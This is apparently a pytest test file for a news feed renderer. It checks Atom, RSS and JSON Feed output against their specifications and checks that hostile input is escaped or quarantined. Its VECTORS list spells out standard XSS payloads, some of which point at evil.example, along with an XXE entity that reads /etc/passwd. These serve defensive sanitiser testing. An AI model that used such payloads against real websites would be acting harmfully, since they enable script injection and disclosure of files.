"""The rules of the W3C feed validator, and what hostile pages must not get into a feed."""

import html
import json
import re
import shutil
import sqlite3
import subprocess
import time
from collections import Counter
from dataclasses import replace
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import feedparser
import pytest
from feed_examples import ADA, MOSCOW, NOW, SOURCES, make_item, make_story
from lxml import etree

from feeds.entries import FeedEntry, change_entry, make_setting, story_entry
from feeds.family import Feed
from feeds.links import web_address
from feeds.rendering import render
from feeds.settings import FeedSettings
from feeds.validity import read_back
from feeds.window import make_entries
from pipeline.models import Item, Speaker
from pipeline.records import HealthChange

BASE = "https://news.example/"
SETTING = make_setting(FeedSettings(base_url=BASE), SOURCES, "Europe/Moscow")
ATOM = "{http://www.w3.org/2005/Atom}"
DC = "{http://purl.org/dc/elements/1.1/}"
RFC3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)")
RFC822 = re.compile(
    r"(Mon|Tue|Wed|Thu|Fri|Sat|Sun), \d\d (Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) \d{4} "
    r"\d\d:\d\d:\d\d [+-]\d{4}"
)
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=' data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example/><input name=q><button>ok</button></form>",
    "<object data=x></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<p>&#x1b;[31m\x1b]0;owned\x07</p>",
    "<video poster=x><source onerror=alert(1)></video>",
)


def feed_of(*items: Item, name: str = "statements") -> Feed:
    entries, _ = make_entries([make_story(item) for item in items], SETTING)
    return Feed(name=name, title="Заявления", subtitle="Newest", home=BASE, base_url=BASE, entries=tuple(entries))


def changes_feed() -> Feed:
    change = HealthChange(source="agency", outcome="blocked", previous="ok", reason="challenge page", at=NOW)
    return replace(feed_of(name="status"), entries=(change_entry(change, SETTING),))


FEEDS = {
    "several": feed_of(*(make_item(n) for n in range(4)), make_item(9, speakers=(), language=None)),
    "reprinted": replace(
        feed_of(), entries=(story_entry(make_story(make_item(1), make_item(2, source="herald")), SETTING),)
    ),
    "speakers": feed_of(make_item(1, speakers=(ADA, Speaker(name="Борис Громов"))), name="speakers/ada"),
    "empty": feed_of(),
    "status": changes_feed(),
    "hostile": feed_of(*(make_item(n, title=f"{v} {n}", lead=v, paragraphs=(v,)) for n, v in enumerate(VECTORS))),
}


@pytest.mark.parametrize("feed", FEEDS.values(), ids=FEEDS)
def test_atom_keeps_the_rules(feed: Feed) -> None:
    """RFC 4287: required elements once, self link, unique ids and updates, authors, links, dates."""
    content = render(feed).files["atom"]
    root = etree.fromstring(content)
    assert root.tag == f"{ATOM}feed"
    for element in (root, *root.iterfind(f"{ATOM}entry"), *root.iterfind(f".//{ATOM}source")):
        counts = Counter(child.tag for child in element)
        assert all(counts[f"{ATOM}{name}"] == 1 for name in ("id", "title", "updated")), counts
    assert [link.get("href") for link in root.iterfind(f"{ATOM}link[@rel='self']")] == [f"{BASE}{feed.name}.atom"]
    ids = [root.findtext(f"{ATOM}id"), *(entry.findtext(f"{ATOM}id") for entry in root.iterfind(f"{ATOM}entry"))]
    assert len(set(ids)) == len(ids)
    assert all(re.fullmatch(r"urn:uuid:[0-9a-f-]{36}", str(one)) for one in ids)
    updates = [entry.findtext(f"{ATOM}updated") for entry in root.iterfind(f"{ATOM}entry")]
    assert len(set(updates)) == len(updates)
    for moment in (*root.iter(f"{ATOM}updated"), *root.iter(f"{ATOM}published")):
        assert RFC3339.fullmatch(moment.text or "")
    for link in root.iter(f"{ATOM}link"):
        assert web_address(link.get("href")) == link.get("href")
    for entry in root.iterfind(f"{ATOM}entry"):
        assert (entry.findtext(f"{ATOM}author/{ATOM}name") or "").strip()
        assert entry.find(f"{ATOM}content").get("type") == "html"
        alternates = [link for link in entry.iterfind(f"{ATOM}link") if link.get("rel", "alternate") == "alternate"]
        assert len(alternates) == 1


@pytest.mark.parametrize("feed", FEEDS.values(), ids=FEEDS)
def test_rss_keeps_the_rules(feed: Feed) -> None:
    """RSS 2.0 with the Advisory Board's profile: channel link, self link, guids that are no links, dc:creator."""
    root = etree.fromstring(render(feed).files["rss"])
    assert (root.tag, root.get("version")) == ("rss", "2.0")
    (channel,) = root
    counts = Counter(child.tag for child in channel if child.tag != "item")
    assert all(counts[name] == 1 for name in ("title", "link", "description", "lastBuildDate", "docs", "generator"))
    assert channel.findtext("link") == BASE
    (own,) = channel.iterfind(f"{ATOM}link")
    assert (own.get("rel"), own.get("href"), own.get("type")) == (
        "self",
        f"{BASE}{feed.name}.rss",
        "application/rss+xml",
    )
    assert RFC822.fullmatch(channel.findtext("lastBuildDate") or "")
    guids = [item.find("guid") for item in channel.iterfind("item")]
    assert all(guid.get("isPermaLink") == "false" for guid in guids)
    assert len({guid.text for guid in guids}) == len(guids)
    for item in channel.iterfind("item"):
        counts = Counter(child.tag for child in item)
        assert all(counts[name] == 1 for name in ("title", "link", "description", "guid", "pubDate"))
        assert counts["author"] == 0
        assert counts[f"{DC}creator"] == 1
        assert RFC822.fullmatch(item.findtext("pubDate") or "")
        assert web_address(item.findtext("link")) == item.findtext("link")
        assert not re.search(r"</\w+>", item.findtext("title") or "")


@pytest.mark.parametrize("feed", FEEDS.values(), ids=FEEDS)
def test_json_keeps_the_rules(feed: Feed) -> None:
    """JSON Feed 1.1: version, addresses, unique ids, RFC 3339 dates, authors with names."""
    told = json.loads(render(feed).files["json"])
    assert told["version"] == "https://jsonfeed.org/version/1.1"
    assert told["feed_url"] == f"{BASE}{feed.name}.json"
    assert len({item["id"] for item in told["items"]}) == len(told["items"])
    for item in told["items"]:
        assert RFC3339.fullmatch(item["date_published"])
        assert RFC3339.fullmatch(item["date_modified"])
        assert item["authors"][0]["name"]
        assert item["content_html"]


@pytest.mark.parametrize("feed", FEEDS.values(), ids=FEEDS)
def test_what_is_rendered_reads_back_without_fault(feed: Feed) -> None:
    """The check before publishing and feedparser agree that it is well-formed."""
    for suffix, content in render(feed).files.items():
        assert read_back(content, suffix).faults == ()
    assert not feedparser.parse(render(feed).files["atom"]).bozo
    assert not feedparser.parse(render(feed).files["rss"]).bozo


class Elements(HTMLParser):
    """What a reader that takes a text as HTML would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements_in(text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(text)
    parser.close()
    return parser.found


def texts_in(files: Any) -> list[str]:
    told = [text for suffix in ("atom", "rss") for text in etree.fromstring(files[suffix]).itertext()]
    items = json.loads(files["json"])["items"]
    return told + [item[name] for item in items for name in ("title", "summary", "content_html")]


def test_no_vector_gets_through() -> None:
    """In no format does any text, taken as HTML, hold an element or attribute outside the allowlist."""
    for text in texts_in(render(FEEDS["hostile"]).files):
        for tag, attributes in elements_in(text):
            assert tag in {"p", "ul", "li", "a"}, text
            assert set(attributes) <= {"href"}, text
            assert all(str(value).startswith(("http://", "https://")) for value in attributes.values())


def test_foreign_words_stay_readable() -> None:
    """What looked like markup is shown as the text it was, once escaped in every format."""
    files = render(feed_of(make_item(paragraphs=("5 < 7 & <b>жирный</b> «текст»",)))).files
    assert (
        "<p>5 &lt; 7 &amp; &lt;b&gt;жирный&lt;/b&gt; «текст»</p>"
        in json.loads(files["json"])["items"][0]["content_html"]
    )
    shown = html.unescape(re.sub(r"<[^>]+>", "", feedparser.parse(files["atom"]).entries[0].content[0].value))
    assert "5 < 7 & <b>жирный</b> «текст»" in shown


def test_titles_are_the_same_text_everywhere() -> None:
    """A title is text: whichever way a reader takes it, nothing of it becomes an element."""
    files = render(feed_of(make_item(title="<b>x</b> &amp; 5 < 7"))).files
    titles = {feedparser.parse(files[suffix]).entries[0].title for suffix in ("atom", "rss")}
    assert titles == {"‹b›x‹/b› &amp; 5 ‹ 7"}
    assert json.loads(files["json"])["items"][0]["title"] in titles


POISONS: dict[str, dict[str, Any]] = {
    "no title and no text": {"title": " ", "lead": None, "paragraphs": ()},
    "javascript link": {"url": "javascript:alert(1)"},
    "data link": {"url": "data:text/html,x"},
    "credentials in the link": {"url": "https://a:b@agency.example/"},
    "no guid": {"guid": "nonsense"},
    "year 1": {"date": date(1, 1, 1), "published_at": None},
    "year 9999": {"date": date(9999, 12, 31), "published_at": None},
    "far ahead": {"date": date(2026, 3, 30), "published_at": None},
    "naive instant": {"published_at": datetime(2026, 1, 30, 12)},  # noqa: DTZ001 - the poison
    "naive storing": {"stored_at": datetime(2026, 1, 30, 12)},  # noqa: DTZ001 - the poison
    "title is no text": {"title": None},
    "text is no text": {"paragraphs": (7,)},
}


@pytest.mark.parametrize("poison", POISONS.values(), ids=POISONS)
def test_one_poisoned_entry_is_left_out_and_the_rest_is_published(poison: dict[str, Any]) -> None:
    """Of ten entries with one bad the nine others are published, and the bad one is named with its reason."""
    stories = [make_story(make_item(n)) for n in range(9)] + [make_story(make_item(99, **poison))]
    entries, left_out = make_entries(stories, SETTING)
    assert len(entries) == 9
    assert [one.key for one in left_out] == ["agency-10099"]
    assert left_out[0].reason


def test_a_guid_stands_once_in_a_feed() -> None:
    """A second entry of one guid is left out by name."""
    one, two = make_item(1), replace(make_item(2), guid=make_item(1).guid)
    entries, left_out = make_entries([make_story(one), make_story(two)], SETTING)
    assert len(entries) == 1
    assert left_out[0].reason == "a guid that another entry has"


def test_an_entry_no_format_can_carry_is_found_and_left_out() -> None:
    """Should the filters ever let something through, rendering names the entry and publishes the others."""
    good = feed_of(make_item(1), make_item(2))
    bad = replace(good.entries[0], guid="urn:uuid:00000000-0000-0000-0000-000000000000", title="\x1b", key="bad")
    unclean = replace(bad, guid=bad.guid[:-1] + "1", title="x", content="<script>alert(1)</script>", key="unclean")
    rendered = render(replace(good, entries=(*good.entries, bad, unclean)))
    assert [one.key for one in rendered.quarantined] == ["bad", "unclean"]
    assert len(rendered.feed.entries) == 2


def test_ten_thousand_hostile_characters_are_quick() -> None:
    """No text makes a feed slow."""
    started = time.process_time()
    for killer in ("<" * 50_000, "&" * 50_000, " \n" * 25_000, "%" * 50_000, "<a " * 15_000, "\u200b" * 50_000):
        render(feed_of(make_item(title=killer, lead=killer, paragraphs=(killer,))))
        web_address("https://agency.example/" + killer[:1900])
    assert time.process_time() - started < 5


def read_with_newsboat(folder: Path, file: Path) -> dict[str, tuple[object, ...]]:
    cache = folder / f"{file.suffix}.db"
    (folder / "urls").write_text(f"file://{file}\n")
    (folder / "config").write_text("auto-reload no\n")
    command = ["newsboat", "-u", "urls", "-c", cache.name, "-C", "config", "-x", "reload"]
    environment = {"HOME": str(folder), "PATH": "/usr/bin:/bin", "TERM": "xterm", "LANG": "C.UTF-8"}
    subprocess.run(command, cwd=folder, env=environment, check=True, timeout=60, capture_output=True)
    with sqlite3.connect(cache) as connection:
        rows = connection.execute("select guid, title, author, url, pubDate, content from rss_item").fetchall()
    connection.close()
    return {row[0]: row[1:] for row in rows}


@pytest.mark.tool
@pytest.mark.skipif(shutil.which("newsboat") is None, reason="needs newsboat: it is not installed")
def test_newsboat_shows_the_same_from_atom_and_rss(tmp_path: Path) -> None:
    """The same items with the same titles, authors, links, dates and texts."""
    items = [make_item(n, date=date(2026, 1, 1 + n), published_at=None) for n in range(6)]
    items.append(make_item(10, speakers=(ADA, Speaker(name="Борис Громов"))))
    items.append(make_item(20, stored_at=datetime(2026, 1, 31, tzinfo=MOSCOW) + timedelta(microseconds=5)))
    rendered = render(feed_of(*items))
    seen = {}
    for suffix in ("atom", "rss"):
        file = tmp_path / f"statements.{suffix}"
        file.write_bytes(rendered.files[suffix])
        seen[suffix] = read_with_newsboat(tmp_path, file)
    assert seen["atom"] == seen["rss"]
    entries: dict[str, FeedEntry] = {entry.guid: entry for entry in rendered.feed.entries}
    assert seen["rss"].keys() == entries.keys()
    for guid, (title, author, url, published, _) in seen["rss"].items():
        entry = entries[guid]
        told = (entry.title, ", ".join(entry.authors), entry.url, int(entry.published.timestamp()))
        assert (title, author, url, published) == told
